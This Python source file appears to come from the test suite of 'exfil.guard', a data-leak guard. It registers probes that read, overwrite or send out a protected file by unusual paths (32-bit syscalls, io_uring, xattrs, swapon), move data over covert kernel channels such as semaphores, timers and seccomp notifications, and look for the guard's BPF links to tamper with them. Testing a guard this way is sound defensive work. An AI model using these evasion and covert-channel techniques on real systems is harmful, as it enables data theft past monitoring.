# Copyright (c) 2026 the exfil.guard authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""System calls and ioctls that no other technique makes: those of 32-bit programs, the old and the newest ones, and numbers
that one task stores in the kernel and another reads."""

import ctypes
import fcntl
import mmap
import os
import resource
import signal
import socket
import struct

from techniques import channels
from techniques.files import attempt_run, attempt_write, emptied, touching
from techniques.flows import CARRIERS, NO_SENDING, SENDERS, by_read, flow, over, spoken
from techniques.machine import does, mounted, uses
from techniques.network import INET, STREAM, sends
from techniques.registry import Absent, appears, technique
from techniques.steps import NEWNS, gone, own_namespaces, private_mounts, put, spread
from techniques.syscalls import AT_FDCWD, Compat, Ring, bpf, call, libc, map_memory, mount, system
from techniques.tamper import PINS, tampers

# ---- 32-bit programs: int 0x80, also from 64-bit code ----------------------------------------------------------------

NEWUTS = 0x04000000


@technique("files", "32-bit calls: open, read", "read")
def open_32_bit(t):
    one = Compat()
    return one.read(one.call(5, t.secret, 0))


@technique("files", "32-bit calls: open, read", "read")
def openat2_32_bit(t):
    one = Compat()
    return one.read(one.call(437, AT_FDCWD, t.secret, bytes(24), 24))


@technique("files", "32-bit calls: a descriptor opened before", "read", held=lambda t: os.open(t.secret, os.O_RDONLY))
def held_pread_32_bit(t, fd):
    return Compat().read(fd, 180)


@technique("files", "32-bit calls: a descriptor opened before", "read", held=lambda t: os.open(t.secret, os.O_RDONLY))
def held_mmap_32_bit(t, fd):
    address = Compat().call(192, 0, 4096, 1, mmap.MAP_PRIVATE, fd, 0) & 0xFFFFFFFF
    return ctypes.string_at(address, len(t.data))


@attempt_write("32-bit calls: truncate, chmod", evidence=emptied)
def truncate_32_bit(t):
    Compat().call(92, t.secret, 0)


@attempt_run("32-bit calls: execve")
def execute_32_bit(t):
    one, words = Compat(), touching(t)
    pointers = [one.place(os.fsencode(word)) for word in ["tool", *words]]
    child = os.fork()
    if child == 0:
        try:
            one.call(11, t.tool, one.place(struct.pack(f"={len(pointers) + 1}I", *pointers, 0)), 0)
        except OSError as error:
            os._exit(error.errno)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(max(code, 1), "32-bit execve")


def _to_outside(t):
    return struct.pack("=H", 2) + struct.pack("!H", t.port) + socket.inet_aton(t.outside4) + bytes(8)


@sends("32-bit calls: socketcall", "connect")
def connect_32_bit(t):
    one = Compat()
    fd = one.socket_call(1, INET, STREAM, 0)
    one.socket_call(3, fd, _to_outside(t), 16)
    one.socket_call(9, fd, t.data, len(t.data), 0)


@sends("32-bit calls: socketcall")
def sendto_32_bit(t):
    one = Compat()
    fd = one.socket_call(1, INET, 2, 0)
    one.socket_call(11, fd, t.data, len(t.data), 0, _to_outside(t), 16)


@sends("32-bit calls: socketcall")
def sendmsg_32_bit(t):
    one = Compat()
    fd = one.socket_call(1, INET, 2, 0)
    vector = one.place(struct.pack("=2I", one.place(t.data), len(t.data)))
    one.socket_call(16, fd, struct.pack("=7I", one.place(_to_outside(t)), 16, vector, 1, 0, 0, 0), 0)


@does("32-bit calls: mount", "mount", root=private_mounts)
def mount_32_bit(t):
    Compat().call(21, "tmpfs", "/mnt", "tmpfs", 0, 0)
    return mounted("/mnt")


@does("32-bit calls: ptrace", "ptrace")
def ptrace_32_bit(t):
    child = os.fork()
    if child == 0:
        try:
            Compat().call(26, 0, 0, 0, 0)
        except OSError as error:
            os._exit(error.errno)
        os._exit(0)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(code, "32-bit ptrace")
    return True


# ---- old and new calls -----------------------------------------------------------------------------------------------


@technique("files", "the calls before openat: open, creat", "read")
def open_by_the_old_call(t):
    return os.read(system("open", t.secret, os.O_RDONLY), 4096)


@attempt_write("the calls before openat: open, creat", evidence=emptied)
def creat(t):
    system("creat", t.secret, 0o666)


@technique(
    "files",
    "list a folder opened before, by getdents",
    "read",
    held=lambda t: os.open(t.secret_folder, os.O_RDONLY),
    ready=lambda t: put(f"{t.secret_folder}/{t.mark}", b"x", os.O_WRONLY | os.O_CREAT),
    last=lambda t: gone(f"{t.secret_folder}/{t.mark}"),
)
def list_by_getdents(t, folder):
    buffer = ctypes.create_string_buffer(65536)
    size = system("getdents", folder, buffer, 65536)
    return buffer.raw[:size]


@technique("files", "readv, preadv2: a descriptor opened before", "read", held=lambda t: os.open(t.secret, os.O_RDONLY))
def held_readv(t, fd):
    buffer = bytearray(4096)
    os.readv(fd, [buffer])
    return bytes(buffer)


@attempt_write("writev, pwritev2: a descriptor opened before", held=lambda t: os.open(t.secret, os.O_RDWR))
def held_writev(t, fd):
    os.writev(fd, [b"overwritten"])


@attempt_write("writev, pwritev2: a descriptor opened before", held=lambda t: os.open(t.secret, os.O_RDWR))
def held_pwritev(t, fd):
    os.pwritev(fd, [b"overwritten"], 0, 0)


@attempt_write("vmsplice, then splice into a descriptor opened before", held=lambda t: os.open(t.secret, os.O_RDWR))
def held_vmsplice_into(t, fd):
    reader, writer = os.pipe()
    _keep = channels.vmsplice(writer, b"overwritten")
    os.splice(reader, fd, 11)


@technique(
    "files", "io_uring: splice from a descriptor opened before", "read", held=lambda t: os.open(t.secret, os.O_RDONLY)
)
def held_uring_splice(t, fd):
    reader, writer = os.pipe()
    # SPLICE: the source is in the place of a field that other operations use for a buffer's index
    Ring().do(30, writer, 0, 4096, (1 << 64) - 1, 0, more=fd << 32)
    return os.read(reader, 4096)


@technique(
    "files", "an extended attribute of a covered file", "read", ready=lambda t: _attribute(t), last=lambda t: _none(t)
)
def getxattr(t):
    return os.getxattr(t.secret, "user.mark")


@technique(
    "files", "an extended attribute of a covered file", "read", ready=lambda t: _attribute(t), last=lambda t: _none(t)
)
def getxattr_by_path_descriptor(t):
    buffer = ctypes.create_string_buffer(256)
    arguments = ctypes.create_string_buffer(struct.pack("=QII", ctypes.addressof(buffer), 256, 0))
    system_or_absent("getxattrat", AT_FDCWD, t.secret, 0, "user.mark", arguments, 16)
    return buffer.raw


def _attribute(t):
    os.setxattr(t.secret, "user.mark", t.data)


def _none(t):
    if "user.mark" in os.listxattr(t.secret):
        os.removexattr(t.secret, "user.mark")


def system_or_absent(name, *arguments):
    try:
        return system(name, *arguments)
    except OSError as error:
        if error.errno == 38:
            raise Absent(f"no {name} on this kernel") from error
        raise


@attempt_write(
    "set an extended attribute by setxattrat", evidence=lambda t: "user.mark" in os.listxattr(t.secret), last=_none
)
def setxattrat(t):
    value = ctypes.create_string_buffer(t.data)
    arguments = ctypes.create_string_buffer(struct.pack("=QII", ctypes.addressof(value), len(t.data), 0))
    system_or_absent("setxattrat", AT_FDCWD, t.secret, 0, "user.mark", arguments, 16)


@attempt_write(
    "remove an extended attribute",
    ready=lambda t: _attribute(t),
    last=_none,
    evidence=lambda t: "user.mark" not in os.listxattr(t.secret),
)
def removexattr(t):
    os.removexattr(t.secret, "user.mark")


@attempt_write(
    "remove an extended attribute",
    ready=lambda t: _attribute(t),
    last=_none,
    evidence=lambda t: "user.mark" not in os.listxattr(t.secret),
)
def removexattrat(t):
    system_or_absent("removexattrat", AT_FDCWD, t.secret, 0, "user.mark")


@attempt_write("chmod by fchmodat2", who="files.service", evidence=lambda t: os.stat(t.secret).st_mode & 0o777 == 0o600)
def fchmodat2(t):
    system_or_absent("fchmodat2", AT_FDCWD, t.secret, 0o600, 0)


def _old(t):
    return os.stat(t.secret).st_mtime < 1000


@attempt_write("set a file's times", who="files.service", evidence=_old)
def utimensat(t):
    os.utime(t.secret, (1, 1))


@attempt_write("set a file's times", who="files.service", evidence=_old)
def old_utime(t):
    system("utime", t.secret, ctypes.create_string_buffer(struct.pack("=2q", 1, 1)))


@attempt_write("mkdir, mknod, symlink in the tree", evidence=lambda t: os.path.isdir(f"{t.secret_folder}/{t.mark}"))
def mkdir_in_the_tree(t):
    os.mkdir(f"{t.secret_folder}/{t.mark}")


@attempt_write("mkdir, mknod, symlink in the tree", evidence=lambda t: os.path.islink(f"{t.secret_folder}/{t.mark}"))
def symlink_in_the_tree(t):
    os.symlink("x", f"{t.secret_folder}/{t.mark}")


@attempt_write("mkdir, mknod, symlink in the tree", evidence=lambda t: os.path.exists(f"{t.secret_folder}/{t.mark}"))
def fifo_in_the_tree(t):
    os.mkfifo(f"{t.secret_folder}/{t.mark}")


@technique(
    "files", "the mount namespace of another process", "read", who="files.service", ready=lambda t: _elsewhere(t)
)
def setns_to_mounts(t):
    call("setns", os.open(f"/proc/{t.kept['elsewhere']}/ns/mnt", os.O_RDONLY), NEWNS)
    with open("/mnt/data", "rb") as file:
        return file.read()


def _elsewhere(t):
    def hold():
        private_mounts()
        mount(t.secret_folder, "/mnt", None, 0x1000)
        put(t.own + ".there", b"", os.O_WRONLY | os.O_CREAT)
        signal.pause()

    gone(t.own + ".there")
    t.kept["elsewhere"] = t.helper(hold)
    appears(t.own + ".there")


@attempt_write(
    "swapon of a covered file",
    who="files.service",
    ready=lambda t: spread(
        t, t.secret, bytes(1024) + struct.pack("=III", 1, 9, 0) + bytes(3050) + b"SWAPSPACE2" + bytes(36864)
    ),
    evidence=lambda t: t.secret in _text("/proc/swaps"),
    last=lambda t: t.secret in _text("/proc/swaps") and call("swapoff", t.secret),
)
def swapon(t):
    call("swapon", t.secret, 0)


def _text(path):
    with open(path, encoding="ascii", errors="replace") as file:
        return file.read()


@attempt_write(
    "acct: the kernel's accounting into a covered file",
    who="files.service",
    evidence=lambda t: os.path.getsize(t.secret) > len(t.data),
    last=lambda t: _no_accounting(),
)
def acct(t):
    try:
        call("acct", t.secret)
    except OSError as error:
        if error.errno == 38:
            raise Absent("the kernel keeps no accounts") from error
        raise
    if os.fork() == 0:
        os._exit(0)
    os.wait()


def _no_accounting():
    libc.acct(None)


# ---- ioctls on a covered file ----------------------------------------------------------------------------------------

DEDUPE, GET_FLAGS, SET_FLAGS = 0xC0189436, 0x80086601, 0x40086602
NO_DUMP = 0x40


def flags_of(path):
    found = ctypes.create_string_buffer(8)
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.ioctl(fd, GET_FLAGS, found)
    finally:
        os.close(fd)
    return struct.unpack_from("=I", found)[0]


@technique(
    "files", "FICLONE, FIDEDUPERANGE: a descriptor opened before", "read", held=lambda t: os.open(t.secret, os.O_RDONLY)
)
def held_dedupe(t, fd):
    """Compares a covered file with a guess."""
    spread(t, t.own, t.data.ljust(4096, b"\0"))
    guess = os.open(t.own, os.O_RDWR)
    argument = ctypes.create_string_buffer(struct.pack("=QQHHIqQQiI", 0, 4096, 1, 0, 0, guess, 0, 0, 0, 0))
    try:
        fcntl.ioctl(fd, DEDUPE, argument)
    except OSError as error:
        if error.errno in (95, 22):
            raise Absent("this filesystem shares no blocks") from error
        raise
    status = struct.unpack_from("=i", argument, 48)[0]
    if status in (-95, -22):
        raise Absent("this filesystem shares no blocks")
    return status == 0


def _flagged(t):
    return bool(flags_of(t.secret) & NO_DUMP)


def _unflagged(t):
    fd = os.open(t.secret, os.O_RDONLY)
    fcntl.ioctl(fd, SET_FLAGS, ctypes.create_string_buffer(struct.pack("=q", flags_of(t.secret) & ~NO_DUMP)))
    os.close(fd)


@attempt_write("set a file's flags (FS_IOC_SETFLAGS)", who="files.service", evidence=_flagged, last=_unflagged)
def set_flags(t):
    fd = os.open(t.secret, os.O_RDONLY)
    fcntl.ioctl(fd, SET_FLAGS, ctypes.create_string_buffer(struct.pack("=q", flags_of(t.secret) | NO_DUMP)))


# ---- the machine -----------------------------------------------------------------------------------------------------


@does("pivot_root", "mount", root=lambda t: (private_mounts(), _new_root()))
def pivot_root(t):
    os.chroot("/mnt/root")
    os.chdir("/")
    system("pivot_root", "/mnt", "/mnt")
    return True


def _new_root():
    mount("tmpfs", "/mnt", "tmpfs")
    # the first root of a guest cannot be left; one below a mount can
    os.mkdir("/mnt/root")
    mount("tmpfs", "/mnt/root", "tmpfs")
    os.mkdir("/mnt/root/mnt")
    mount("tmpfs", "/mnt/root/mnt", "tmpfs")


@does(
    "fspick, fsconfig: change a mounted filesystem",
    "mount",
    root=lambda t: (private_mounts(), mount("tmpfs", "/mnt", "tmpfs")),
)
def fspick(t):
    fd = system("fspick", AT_FDCWD, "/mnt", 0)
    system("fsconfig", fd, 0, "ro", 0, 0)  # FSCONFIG_SET_FLAG
    system("fsconfig", fd, 7, 0, 0, 0)  # FSCONFIG_CMD_RECONFIGURE
    return True


@does("open_tree_attr, move_mount", "mount", root=private_mounts)
def open_tree_attr(t):
    attribute = ctypes.create_string_buffer(struct.pack("=4Q", 1, 0, 0, 0))
    tree = system_or_absent("open_tree_attr", AT_FDCWD, t.open, 1, attribute, 32)
    system("move_mount", tree, "", AT_FDCWD, "/mnt", 4)
    return mounted("/mnt")


@does("kexec_load, kexec_file_load", "load-module")
def kexec_load(t):
    """Takes away the image that is loaded, or none."""
    system_or_absent("kexec_load", 0, 0, 0, 0)
    return True


@uses("sys-boot", "reboot, by its capability")
def cap_sys_boot(t):
    call("reboot", 0)  # the keys of the console ask the first process
    return True


@uses("sys-tty-config", "vhangup, by its capability")
def cap_sys_tty_config(t):
    child = os.fork()
    if child == 0:
        os.setsid()
        os._exit(libc.vhangup() and ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(code, "vhangup")
    return True


@uses("sys-nice", "a better priority, by its capability")
def cap_sys_nice(t):
    os.setpriority(os.PRIO_PROCESS, 0, -5)
    return True


@uses(
    "ipc-lock",
    "memory that is not written to disk, beyond the limit",
    root=lambda t: resource.setrlimit(resource.RLIMIT_MEMLOCK, (0, 0)),
)
def cap_ipc_lock(t):
    call("mlock", map_memory(4096, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS), 4096)
    return True


@uses("linux-immutable", "make a file immutable", ready=lambda t: spread(t, t.own), last=lambda t: _mutable(t.own))
def cap_linux_immutable(t):
    fd = os.open(t.own, os.O_RDONLY)
    fcntl.ioctl(fd, SET_FLAGS, ctypes.create_string_buffer(struct.pack("=q", flags_of(t.own) | 0x10)))
    return True


def _mutable(path):
    fd = os.open(path, os.O_RDONLY)
    fcntl.ioctl(fd, SET_FLAGS, ctypes.create_string_buffer(struct.pack("=q", flags_of(path) & ~0x10)))
    os.close(fd)


# ---- to carry: numbers that one task stores in the kernel and another reads -------------------------------------------

NUMBERS_OPEN = (
    "a number that the kernel keeps for a task or a descriptor is no data that is followed; whoever may read the data is "
    "kept from sending by name as well"
)


def carried(make, **known):
    """A flow through what ``make(scratch)`` makes."""
    name = make.__name__
    over(name, make, **known)
    flow(
        "carry_" + name,
        f"read, hand on by {spoken(name)}, then send",
        by_read,
        CARRIERS[name][0],
        SENDERS["tcp"],
        **known,
    )


def channel(make):
    carried(make, open=NUMBERS_OPEN, closed_by=NO_SENDING)


def numbers(make):
    """A carrier of four bytes at a time: ``make(scratch)`` gives store(number) and load(), each waits for the other."""

    def both(scratch):
        store, load = make(scratch)
        written, taken = channels.Signal(), channels.Signal()

        def write(data):
            for start in range(0, len(data), 4):
                store(int.from_bytes(data[start : start + 4], "little"))
                written.give()
                taken.wait()

        def read(size):
            found = b""
            for _ in range((size + 3) // 4):
                written.wait()
                found += load().to_bytes(4, "little")
                taken.give()
            return found.rstrip(b"\0")

        return channels.Channel(write, read)

    both.__name__ = make.__name__
    channel(both)


@numbers
def a_semaphore(_scratch):
    one = call("semget", 0, 3, 0o600 | 0o1000)

    def store(number):
        for place in range(3):
            call("semctl", one, place, 16, number >> 15 * place & 0x7FFF)  # SETVAL

    return store, lambda: sum(call("semctl", one, place, 12) << 15 * place for place in range(3))  # GETVAL


@numbers
def a_shared_offset(scratch):
    fd = os.open(scratch + ".offset", os.O_RDWR | os.O_CREAT, 0o600)
    return lambda number: os.lseek(fd, number, 0), lambda: os.lseek(fd, 0, 1)


@numbers
def a_file_s_size(scratch):
    fd = os.open(scratch + ".size", os.O_RDWR | os.O_CREAT, 0o600)
    return lambda number: os.ftruncate(fd, number), lambda: os.fstat(fd).st_size


@numbers
def a_limit(_scratch):
    one = os.getpid()

    def store(number):
        resource.prlimit(one, resource.RLIMIT_CORE, (number, resource.getrlimit(resource.RLIMIT_CORE)[1]))

    return store, lambda: resource.prlimit(one, resource.RLIMIT_CORE)[0]


@numbers
def a_timer(_scratch):
    fd = system("timerfd_create", 1, 0)

    def store(number):
        system("timerfd_settime", fd, 0, ctypes.create_string_buffer(struct.pack("=4q", number, 0, 1000, 0)), 0)

    def load():
        found = ctypes.create_string_buffer(32)
        system("timerfd_gettime", fd, found)
        return struct.unpack_from("=q", found)[0]

    return store, load


@numbers
def a_watched_descriptor(_scratch):
    """What epoll gives back with an event."""
    one, ready = system("epoll_create1", 0), os.eventfd(1)

    def event(number):
        return ctypes.create_string_buffer(struct.pack("=IQ", 1, number), 12)

    system("epoll_ctl", one, 1, ready, event(0))

    def load():
        found = ctypes.create_string_buffer(12)
        system("epoll_wait", one, found, 1, 0)
        return struct.unpack("=IQ", found.raw)[1]

    return lambda number: system("epoll_ctl", one, 3, ready, event(number)), load


@numbers
def a_socket_option(_scratch):
    one, _other = socket.socketpair()
    return (
        lambda number: one.setsockopt(socket.SOL_SOCKET, 47, struct.pack("=Q", number)),  # SO_MAX_PACING_RATE
        lambda: struct.unpack("=Q", one.getsockopt(socket.SOL_SOCKET, 47, 8))[0],
    )


@numbers
def a_thread_s_name(_scratch):
    one = os.getpid()

    def store(number):
        call("prctl", 15, b"%08x" % number, 0, 0, 0)

    return store, lambda: int(_text(f"/proc/{one}/comm"), 16)


@channel
def a_signal_s_value(_scratch):
    number = signal.SIGRTMIN + 3
    signal.pthread_sigmask(signal.SIG_BLOCK, [number])
    reader, writer = os.pipe()

    def write(data):
        target = struct.unpack("=i", os.read(reader, 4))[0]
        for start in range(0, len(data), 8):
            value = int.from_bytes(data[start : start + 8], "little")
            information = struct.pack("=iiiiiiQ", number, 0, -1, 0, os.getpid(), os.getuid(), value)
            system("rt_sigqueueinfo", target, number, ctypes.create_string_buffer(information, 128))

    def read(size):
        os.write(writer, struct.pack("=i", os.getpid()))
        wanted = ctypes.create_string_buffer(struct.pack("=Q", 1 << number - 1))
        found, information = b"", ctypes.create_string_buffer(128)
        for _ in range((size + 7) // 8):
            system("rt_sigtimedwait", wanted, information, 0, 8)
            found += information.raw[24:32]
        return found.rstrip(b"\0")

    return channels.Channel(write, read)


@channel
def a_supervised_call(_scratch):
    """What a supervisor of system calls (seccomp) sees: the arguments of a call that does not exist."""
    missing, listener = 1000, 8  # SECCOMP_FILTER_FLAG_NEW_LISTENER
    code = struct.pack(
        "=HBBIHBBIHBBIHBBI", 0x20, 0, 0, 0, 0x15, 0, 1, missing, 6, 0, 0, 0x7FC00000, 6, 0, 0, 0x7FFF0000
    )
    kept = ctypes.create_string_buffer(code, len(code))
    call("prctl", 38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS
    fd = system("seccomp", 1, listener, ctypes.create_string_buffer(struct.pack("=H6xQ", 4, ctypes.addressof(kept))))

    def write(data):
        words = struct.unpack("=6Q", data.ljust(48, b"\0")[:48])
        libc.syscall(ctypes.c_long(missing), *map(ctypes.c_ulong, words))

    def read(size):
        found = ctypes.create_string_buffer(80)
        fcntl.ioctl(fd, 0xC0502100, found)  # SECCOMP_IOCTL_NOTIF_RECV
        answer = ctypes.create_string_buffer(struct.pack("=QqiI", struct.unpack_from("=Q", found)[0], 0, 0, 0))
        fcntl.ioctl(fd, 0xC0182101, answer)  # SECCOMP_IOCTL_NOTIF_SEND
        return found.raw[32 : 32 + size]

    return channels.Channel(write, read)


@channel
def a_host_s_name(_scratch):
    own_namespaces(NEWUTS)
    return channels.Channel(
        lambda data: call("sethostname", data, len(data)), lambda size: os.uname().nodename.encode(), False
    )


def memory_that_is_secret(_scratch):
    """memfd_secret: it cannot be read or written, only mapped."""
    fd = system_or_absent("memfd_secret", 0)
    os.ftruncate(fd, 4096)

    def write(data):
        mmap.mmap(fd, 4096)[: len(data)] = data

    return channels.Channel(write, lambda size: mmap.mmap(fd, 4096)[:size], False)


carried(memory_that_is_secret)


@tampers("open a link of the guard by its number")
def link_by_number(t):
    if not os.path.isdir(PINS):
        raise Absent("not installed yet")
    number = 0
    while True:
        attribute = ctypes.create_string_buffer(struct.pack("=II", number, 0), 128)
        system("bpf", 31, attribute, 128)  # BPF_LINK_GET_NEXT_ID
        number = struct.unpack_from("=I", attribute, 4)[0]
        link = bpf(30, "=I", number)
        information = ctypes.create_string_buffer(256)
        bpf(15, "=IIQ", link, 256, ctypes.addressof(information))  # BPF_OBJ_GET_INFO_BY_FD
        program = bpf(13, "=I", struct.unpack_from("=I", information, 8)[0])
        information = ctypes.create_string_buffer(256)  # empty: what it holds is taken for addresses
        bpf(15, "=IIQ", program, 256, ctypes.addressof(information))
        if information.raw[64:80].rstrip(b"\0") == b"file_permission":
            return True
